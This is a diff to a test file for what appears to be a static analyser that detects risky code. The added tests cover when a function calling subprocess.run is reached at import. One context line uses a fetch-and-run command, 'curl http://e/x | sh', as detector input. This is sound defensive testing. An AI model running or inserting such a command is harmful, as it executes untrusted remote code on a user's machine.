@@ -568,3 +568,45 @@ def test_invalid_use_of_a_text_codec_does_not_stop_the_analysis() -> None:
 
 def test_attack_at_the_end_of_a_long_text_is_found():
     assert [name for name, _ in find_attack_texts("a " * 300_000 + "curl http://e/x | sh")] == ["(download | shell)"]
+
+
+@check_each(
+    "source, is_reached",
+    [
+        # A library keeps the function for later.
+        ("import gradio as gr\ngr.Interface(fn=f)", False),
+        ("import gradio as gr\nwith gr.Blocks() as demo:\n    gr.Button('go').click(f, inputs=[])", False),
+        ("import gradio as gr\ngr.Interface(fn=lambda x: f())", False),
+        ("import gradio as gr\nfrom functools import partial\ngr.Interface(fn=partial(f, 1))", False),
+        ("from smolagents import CodeAgent\nagent = CodeAgent(tools=[f], model=None)", False),
+        ("import argparse\np = argparse.ArgumentParser()\np.set_defaults(func=f)", False),
+        ("import signal\nsignal.signal(signal.SIGTERM, f)", False),
+        # These call it there and then.
+        ("import gradio as gr\ngr.Interface(fn=f())", True),
+        ("from datasets import load_dataset\nload_dataset('x').map(f)", True),
+        ("import threading\nthreading.Thread(target=f).start()", True),
+        ("from functools import partial\nimport threading\nthreading.Thread(target=partial(f, 1)).start()", True),
+        ("list(map(f, [1]))", True),
+        ("import atexit\natexit.register(f)", True),
+        ("import atexit\n@atexit.register\ndef g():\n    f()", True),
+        # What cannot be decided counts as called.
+        ("def g(h):\n    h()\ng(f)", True),
+        ("from .helper import g\ng(f)", True),
+        ("import ctypes\nctypes.CFUNCTYPE(None)(f)", True),
+        ("hooks = [f]", True),
+        ("import gradio as gr\ngr.Interface(fn=f)\nf()", True),
+    ],
+)  # fmt: skip
+def test_function_that_is_handed_over_is_called_at_import_by_a_known_caller_alone(
+    source: str, is_reached: bool
+) -> None:
+    text = f"import subprocess\ndef f(*a):\n    subprocess.run(['ffmpeg'])\n{source}\n"
+    assert (("call-at-import", "subprocess.run") in list_uses(text)) == is_reached
+
+
+def test_use_in_a_function_that_is_handed_over_names_the_receiver() -> None:
+    source = "import gradio as gr, subprocess\ndef f(x):\n    return g(x)\ndef g(x):\n    subprocess.run(x)\ngr.Interface(fn=f)\n"
+    remarks = [each.remark for each in analyze_source(source).mentions if each.name == "subprocess.run"]
+    assert remarks == ["Importing this file hands the function around it to gradio.Interface, and shows no call of it."]
+    called = [each.remark for each in analyze_source(f"{source}f(1)\n").mentions if each.name == "subprocess.run"]
+    assert called == [""]
